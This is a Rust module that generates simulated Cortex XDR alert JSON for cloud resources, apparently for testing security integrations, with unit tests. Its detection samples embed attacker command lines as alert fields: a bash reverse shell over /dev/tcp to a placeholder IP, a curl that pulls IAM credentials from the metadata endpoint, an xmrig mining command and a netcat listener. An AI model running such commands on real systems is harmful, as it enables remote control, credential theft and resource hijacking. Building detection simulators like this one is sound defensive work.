//! Cortex XDR alerts as `POST /public_api/v2/alerts/get_alerts_multi_events` serves them
//! (corpus `cortex-xdr/elastic-get-alerts-multi-events-v2-mock.json`): every alert carries the
//! full key set, `null` where a field does not apply, and per-event fields as arrays (even with
//! one event); timestamps are epoch milliseconds; status is `resolution_status`
//! (`STATUS_010_NEW`, ...). Cloud context (`cloud_provider`, `project`, `resource_type`,
//! `referenced_resource`, `cluster_name`, `container_id`) is filled for the world's cloud
//! resources; host fields for instances and workloads that run an agent.

use serde_json::{Map, Value, json};

use crate::domain::Cloud;
use crate::rng::Rng;
use crate::sim::world::{ResourceKind, SevWord, SimFinding, SimResource, SimStatus, World};

pub fn items(world: &World, findings: &[&SimFinding]) -> Vec<Value> {
    findings.iter().map(|f| alert(world, f)).collect()
}

/// `{"reply": {"total_count", "result_count", "alerts"}}` for one final page.
pub fn list_body(items: Vec<Value>) -> Value {
    let n = items.len();
    json!({ "reply": { "total_count": n, "result_count": n, "alerts": items } })
}

pub fn native_id(_world: &World, f: &SimFinding) -> String {
    format!("alert-{}", alert_id(f))
}

fn alert_id(f: &SimFinding) -> u64 {
    10_000 + f.seq
}

/// FNV-1a, for ids that must be stable per resource.
fn fnv(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// What the detection looked like on the wire, per rule.
struct Detection {
    category: &'static str,
    source: &'static str,
    event_type: &'static str,
    process: &'static str,
    path: &'static str,
    command_line: String,
    parent: (&'static str, &'static str),
    tactic: &'static str,
    technique: &'static str,
    remote: Option<(String, u16)>,
    user: &'static str,
}

fn detection(f: &SimFinding, rng: &mut Rng) -> Detection {
    let id = f.rule.id;
    let ip_tail = 2 + rng.below(250);
    if id.ends_with("rt-crypto") {
        Detection {
            category: "Malware",
            source: "XDR Agent",
            event_type: "Network Connections",
            process: "xmrig",
            path: "/tmp/.x/xmrig",
            command_line: "/tmp/.x/xmrig -o pool.supportxmr.com:443 -u 4A9f..wallet -k --tls"
                .into(),
            parent: ("bash", "/bin/bash"),
            tactic: "TA0040 - Impact",
            technique: "T1496 - Resource Hijacking",
            remote: Some((format!("198.51.100.{ip_tail}"), 443)),
            user: "www-data",
        }
    } else if id.ends_with("rt-metadata") {
        Detection {
            category: "Credential Access",
            source: "XDR Analytics BIOC",
            event_type: "Network Connections",
            process: "curl",
            path: "/usr/bin/curl",
            command_line:
                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/".into(),
            parent: ("sh", "/bin/sh"),
            tactic: "TA0006 - Credential Access",
            technique: "T1552.005 - Unsecured Credentials: Cloud Instance Metadata API",
            remote: Some(("169.254.169.254".into(), 80)),
            user: "app",
        }
    } else if id.ends_with("rt-revshell") {
        Detection {
            category: "Execution",
            source: "XDR Agent",
            event_type: "Process Execution",
            process: "bash",
            path: "/bin/bash",
            command_line: format!("bash -i >& /dev/tcp/203.0.113.{ip_tail}/4444 0>&1"),
            parent: ("python3", "/usr/bin/python3"),
            tactic: "TA0002 - Execution",
            technique: "T1059.004 - Command and Scripting Interpreter: Unix Shell",
            remote: Some((format!("203.0.113.{ip_tail}"), 4444)),
            user: "www-data",
        }
    } else {
        Detection {
            category: "Execution",
            source: "XDR Analytics",
            event_type: "Process Execution",
            process: "nc",
            path: "/usr/bin/nc",
            command_line: "/usr/bin/nc -lvp 4444".into(),
            parent: ("sh", "/bin/sh"),
            tactic: "TA0002 - Execution",
            technique: "T1059 - Command and Scripting Interpreter",
            remote: None,
            user: "root",
        }
    }
}

fn severity_word(s: SevWord) -> &'static str {
    match s {
        SevWord::Critical => "critical",
        SevWord::High => "high",
        SevWord::Medium => "medium",
        SevWord::Low => "low",
        SevWord::Info => "informational",
    }
}

fn resolution(status: SimStatus) -> (&'static str, Value) {
    match status {
        SimStatus::Open => ("STATUS_010_NEW", Value::Null),
        SimStatus::InProgress => ("STATUS_020_UNDER_INVESTIGATION", Value::Null),
        SimStatus::Resolved => (
            "STATUS_090_RESOLVED_TRUE_POSITIVE",
            json!("Process killed and workload redeployed from a clean image."),
        ),
        SimStatus::Dismissed => (
            "STATUS_060_RESOLVED_FALSE_POSITIVE",
            json!("Expected behaviour of an approved tool."),
        ),
    }
}

/// `ip-10-1-2-3.app.internal` → `10.1.2.3`.
fn host_ip(hostname: &str) -> String {
    let label = hostname.split('.').next().unwrap_or(hostname);
    let octets: Vec<&str> = label.trim_start_matches("ip-").split('-').collect();
    if octets.len() == 4 && octets.iter().all(|o| o.parse::<u8>().is_ok()) {
        octets.join(".")
    } else {
        "10.0.0.1".to_string()
    }
}

/// (cloud_provider, resource_type, resource_sub_type) for the resource.
fn cloud_context(r: &SimResource) -> (Value, &'static str, &'static str) {
    use ResourceKind::*;
    let provider = match r.cloud {
        Cloud::Aws => json!("AWS"),
        Cloud::Azure => json!("AZURE"),
        Cloud::Gcp => json!("GCP"),
        _ => Value::Null,
    };
    let (t, sub) = match (&r.cloud, r.kind) {
        (Cloud::Kubernetes, _) => ("CONTAINER", "K8S_DEPLOYMENT"),
        (Cloud::Aws, Instance | Workload) => ("COMPUTE", "AWS_EC2_INSTANCE"),
        (Cloud::Aws, Function) => ("SERVERLESS", "AWS_LAMBDA_FUNCTION"),
        (Cloud::Aws, Bucket) => ("STORAGE", "AWS_S3_BUCKET"),
        (Cloud::Aws, Role) => ("IAM", "AWS_IAM_ROLE"),
        (Cloud::Aws, SecurityGroup) => ("NETWORK", "AWS_EC2_SECURITY_GROUP"),
        (Cloud::Aws, Database) => ("DATABASE", "AWS_RDS_DB_INSTANCE"),
        (Cloud::Aws, LoadBalancer) => ("NETWORK", "AWS_ELB_LOAD_BALANCER"),
        (Cloud::Azure, Function) => ("SERVERLESS", "AZURE_FUNCTION_APP"),
        (Cloud::Azure, Bucket) => ("STORAGE", "AZURE_STORAGE_ACCOUNT"),
        (Cloud::Azure, Role) => ("IAM", "AZURE_MANAGED_IDENTITY"),
        (Cloud::Azure, SecurityGroup) => ("NETWORK", "AZURE_NETWORK_SECURITY_GROUP"),
        (Cloud::Azure, Database) => ("DATABASE", "AZURE_SQL_SERVER"),
        (Cloud::Azure, LoadBalancer) => ("NETWORK", "AZURE_LOAD_BALANCER"),
        (Cloud::Azure, _) => ("COMPUTE", "AZURE_VIRTUAL_MACHINE"),
        (_, Function) => ("SERVERLESS", "GCP_CLOUD_FUNCTION"),
        (_, Bucket) => ("STORAGE", "GCP_STORAGE_BUCKET"),
        (_, Role) => ("IAM", "GCP_SERVICE_ACCOUNT"),
        (_, SecurityGroup) => ("NETWORK", "GCP_FIREWALL_RULE"),
        (_, Database) => ("DATABASE", "GCP_CLOUD_SQL_INSTANCE"),
        (_, LoadBalancer) => ("NETWORK", "GCP_LOAD_BALANCER"),
        (_, _) => ("COMPUTE", "GCP_COMPUTE_INSTANCE"),
    };
    (provider, t, sub)
}

fn alert(world: &World, f: &SimFinding) -> Value {
    let r = world.resource_of(f);
    let mut rng = Rng::new(world.seed ^ f.seq.wrapping_mul(0x2545_F491) ^ 0xcd7);
    let mut res_rng = Rng::new(world.seed ^ fnv(&r.id));
    let d = detection(f, &mut rng);
    let has_agent = matches!(r.kind, ResourceKind::Instance | ResourceKind::Workload);
    let endpoint_id = res_rng.hex(32);
    let container_id = matches!(r.kind, ResourceKind::Workload).then(|| res_rng.hex(64));
    let (provider, rtype, rsub) = cloud_context(r);
    let is_k8s = r.cloud == Cloud::Kubernetes;
    let (status, comment) = resolution(f.status);
    let event_ts = f.created_ms - 500 - rng.below(4_000) as i64;
    let boot = event_ts - (1 + rng.below(30) as i64) * 86_400_000;
    let pid = 1_000 + rng.below(30_000);
    let ppid = 1 + rng.below(999);
    let instance = |rng: &mut Rng| rng.hex(22) + "==";
    let actor_instance = instance(&mut rng);
    let causality_instance = instance(&mut rng);
    let sha = rng.hex(64);
    let parent_sha = rng.hex(64);
    let md5 = rng.hex(32);
    let env = r.tags.get("env").map_or("default", String::as_str);
    let tags = vec![
        json!(format!(
            "DS:{}",
            if has_agent {
                "PANW/XDR Agent"
            } else {
                "Cloud Audit Logs"
            }
        )),
        json!(format!("EG:{env}")),
    ];
    let host = |v: Value| if has_agent { v } else { Value::Null };
    let (remote_ip, remote_port) = match &d.remote {
        Some((ip, port)) => (json!([ip]), json!([port])),
        None => (Value::Null, Value::Null),
    };

    // Field order follows the corpus payload.
    let mut m = Map::new();
    let mut put = |k: &str, v: Value| {
        m.insert(k.to_string(), v);
    };
    put("agent_os_sub_type", host(json!("Ubuntu 22.04.4 LTS")));
    put("fw_app_category", Value::Null);
    put("fw_app_id", Value::Null);
    put("fw_app_subcategory", Value::Null);
    put("fw_app_technology", Value::Null);
    put("category", json!(d.category));
    put(
        "causality_actor_process_command_line",
        host(json!([d.parent.1])),
    );
    put(
        "causality_actor_process_image_md5",
        host(json!([rng.hex(32)])),
    );
    put(
        "causality_actor_process_image_name",
        host(json!([d.parent.0])),
    );
    put(
        "causality_actor_process_image_path",
        host(json!([d.parent.1])),
    );
    put(
        "causality_actor_process_image_sha256",
        host(json!([parent_sha])),
    );
    put(
        "causality_actor_process_signature_status",
        host(json!(["Unsigned"])),
    );
    put("causality_actor_process_signature_vendor", Value::Null);
    put(
        "causality_actor_causality_id",
        host(json!([causality_instance])),
    );
    put("identity_sub_type", Value::Null);
    put("identity_type", Value::Null);
    put("operation_name", Value::Null);
    put(
        "project",
        if is_k8s {
            Value::Null
        } else {
            json!(r.account)
        },
    );
    put("cloud_provider", provider);
    put("referenced_resource", json!(r.id));
    put("resource_sub_type", json!(rsub));
    put("resource_type", json!(rtype));
    put(
        "cluster_name",
        if is_k8s {
            json!(r.account)
        } else {
            Value::Null
        },
    );
    put(
        "container_id",
        container_id.clone().map_or(Value::Null, Value::String),
    );
    put("contains_featured_host", json!(["NO"]));
    put("contains_featured_ip", json!(["NO"]));
    put("contains_featured_user", json!(["NO"]));
    put(
        "action_country",
        json!([if d.remote.is_some() { "UNKNOWN" } else { "N/A" }]),
    );
    put("description", json!(f.rule.description));
    put("fw_interface_to", Value::Null);
    put("dns_query_name", Value::Null);
    put("agent_device_domain", Value::Null);
    put("fw_email_recipient", Value::Null);
    put("fw_email_sender", Value::Null);
    put("fw_email_subject", Value::Null);
    put("events", Value::Null);
    put(
        "event_type",
        json!([if has_agent {
            d.event_type
        } else {
            "Cloud Audit Log"
        }]),
    );
    put("is_whitelisted", json!(false));
    put("action_file_macro_sha256", Value::Null);
    put("action_file_md5", Value::Null);
    put("action_file_name", Value::Null);
    put("action_file_path", Value::Null);
    put("action_file_sha256", Value::Null);
    put("fw_device_name", Value::Null);
    put("fw_rule_id", Value::Null);
    put("fw_rule", Value::Null);
    put("fw_serial_number", Value::Null);
    put("agent_fqdn", host(json!(r.hostname)));
    put("agent_os_type", host(json!("AGENT_OS_LINUX")));
    put(
        "image_name",
        r.image.clone().map_or(Value::Null, Value::String),
    );
    put("actor_process_image_name", host(json!([d.process])));
    put("actor_process_command_line", host(json!([d.command_line])));
    put("actor_process_image_md5", host(json!([md5])));
    put("actor_process_image_path", host(json!([d.path])));
    put("actor_process_os_pid", host(json!([pid])));
    put("actor_process_image_sha256", host(json!([sha])));
    put("actor_process_signature_status", host(json!(["Unsigned"])));
    put("actor_process_signature_vendor", Value::Null);
    put("actor_thread_thread_id", host(json!([pid])));
    put("fw_is_phishing", json!(["N/A"]));
    put("action_local_ip", Value::Null);
    put("action_local_port", Value::Null);
    put("fw_misc", Value::Null);
    put("mitre_tactic_id_and_name", json!([d.tactic]));
    put("mitre_technique_id_and_name", json!([d.technique]));
    put("module_id", Value::Null);
    put("fw_vsys", Value::Null);
    put("os_actor_process_command_line", host(json!([d.parent.1])));
    put("os_actor_thread_thread_id", host(json!([ppid])));
    put("os_actor_process_image_name", host(json!([d.parent.0])));
    put("os_actor_process_os_pid", host(json!([ppid])));
    put("os_actor_process_image_sha256", host(json!([parent_sha])));
    put(
        "os_actor_process_signature_status",
        host(json!(["Unsigned"])),
    );
    put("os_actor_process_signature_vendor", Value::Null);
    put("os_actor_effective_username", host(json!([d.user])));
    put("action_process_signature_status", json!(["N/A"]));
    put("action_process_signature_vendor", Value::Null);
    put("action_registry_data", Value::Null);
    put("action_registry_full_key", Value::Null);
    put("action_external_hostname", Value::Null);
    put("action_remote_ip", remote_ip);
    put("action_remote_port", remote_port);
    put("matching_service_rule_id", json!(f.rule.id));
    put("fw_interface_from", Value::Null);
    put("starred", json!(matches!(f.severity, SevWord::Critical)));
    put("action_process_image_command_line", Value::Null);
    put("action_process_image_name", Value::Null);
    put("action_process_image_sha256", Value::Null);
    put("fw_url_domain", Value::Null);
    put("user_agent", Value::Null);
    put("fw_xff", Value::Null);
    put("external_id", json!(rng.hex(32)));
    put("severity", json!(severity_word(f.severity)));
    put("matching_status", json!("MATCHED"));
    put("end_match_attempt_ts", Value::Null);
    put("local_insert_ts", json!(f.created_ms));
    put("last_modified_ts", json!(f.updated_ms));
    put("bioc_indicator", Value::Null);
    put("attempt_counter", json!(0));
    put("bioc_category_enum_key", Value::Null);
    put("case_id", json!(500 + f.resource));
    put("deduplicate_tokens", Value::Null);
    put("filter_rule_id", Value::Null);
    put("agent_version", host(json!("8.4.1.12345")));
    put("agent_ip_addresses_v6", Value::Null);
    put("agent_data_collection_status", host(json!(true)));
    put("agent_is_vdi", host(json!(false)));
    put(
        "agent_install_type",
        host(json!(if container_id.is_some() {
            "KUBERNETES"
        } else {
            "STANDARD"
        })),
    );
    put("agent_host_boot_time", host(json!([boot])));
    put("event_sub_type", json!([1]));
    put("association_strength", json!([50]));
    put("dst_association_strength", Value::Null);
    put("story_id", Value::Null);
    put("event_id", json!([rng.hex(24)]));
    put("event_timestamp", json!([event_ts]));
    put("actor_process_instance_id", host(json!([actor_instance])));
    put(
        "actor_process_causality_id",
        host(json!([causality_instance])),
    );
    put("actor_causality_id", host(json!([causality_instance])));
    put(
        "causality_actor_process_execution_time",
        host(json!([event_ts - 60_000])),
    );
    put("action_registry_key_name", Value::Null);
    put("action_registry_value_name", Value::Null);
    put("action_local_ip_v6", Value::Null);
    put("action_remote_ip_v6", Value::Null);
    put("action_process_instance_id", Value::Null);
    put("action_process_causality_id", Value::Null);
    put(
        "os_actor_process_instance_id",
        host(json!([causality_instance])),
    );
    put("os_actor_process_image_path", host(json!([d.parent.1])));
    put(
        "os_actor_process_causality_id",
        host(json!([causality_instance])),
    );
    put("os_actor_causality_id", Value::Null);
    put("dst_agent_id", Value::Null);
    put("dst_causality_actor_process_execution_time", Value::Null);
    put("dst_action_external_hostname", Value::Null);
    put("dst_action_country", Value::Null);
    put("dst_action_external_port", Value::Null);
    put("is_pcap", json!(false));
    put("alert_type", json!("Unclassified"));
    put("resolution_status", json!(status));
    put("resolution_comment", comment);
    put("dynamic_fields", Value::Null);
    put("tags", json!(tags));
    put("dss_job_title", Value::Null);
    put("dss_department", Value::Null);
    put("dss_country", Value::Null);
    put("dss_groups", Value::Null);
    put("alert_id", json!(alert_id(f).to_string()));
    put("detection_timestamp", json!(f.created_ms));
    put("name", json!(f.rule.name));
    put("endpoint_id", host(json!(endpoint_id)));
    put("host_ip", host(json!([host_ip(&r.hostname)])));
    put("host_name", host(json!(r.hostname)));
    put("action", json!("DETECTED"));
    put(
        "original_tags",
        json!(tags.iter().rev().cloned().collect::<Vec<_>>()),
    );
    put("user_name", host(json!([d.user])));
    put("mac_addresses", Value::Null);
    put(
        "source",
        json!(if has_agent { d.source } else { "XDR Analytics" }),
    );
    put("action_pretty", json!("Detected"));
    Value::Object(m)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn alerts_carry_the_corpus_key_set() {
        let world = World::generate(5, 30, 1_700_000_000_000);
        let findings: Vec<&SimFinding> = world
            .findings_for(crate::domain::Vendor::CortexXdr)
            .collect();
        let body = list_body(items(&world, &findings));
        assert_eq!(body["reply"]["result_count"], findings.len());
        let corpus = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../shared/corpus/cortex-xdr/elastic-get-alerts-multi-events-v2-mock.json"
        );
        let Ok(text) = std::fs::read_to_string(corpus) else {
            eprintln!("corpus file {corpus} missing; skipping the key-set comparison");
            assert!(std::env::var_os("CI").is_none(), "corpus missing in CI");
            return;
        };
        let real: Value = serde_json::from_str(&text).unwrap();
        let want: Vec<&String> = real["reply"]["alerts"][0]
            .as_object()
            .unwrap()
            .keys()
            .collect();
        for item in body["reply"]["alerts"].as_array().unwrap() {
            let got: Vec<&String> = item.as_object().unwrap().keys().collect();
            assert_eq!(got, want);
            assert!(item["host_ip"].is_array() || item["host_ip"].is_null());
            assert!(item["event_timestamp"].is_array());
        }
    }

    #[test]
    fn host_ip_from_aws_style_hostnames() {
        assert_eq!(host_ip("ip-10-4-200-7.checkout.internal"), "10.4.200.7");
        assert_eq!(host_ip("web-1"), "10.0.0.1");
    }
}
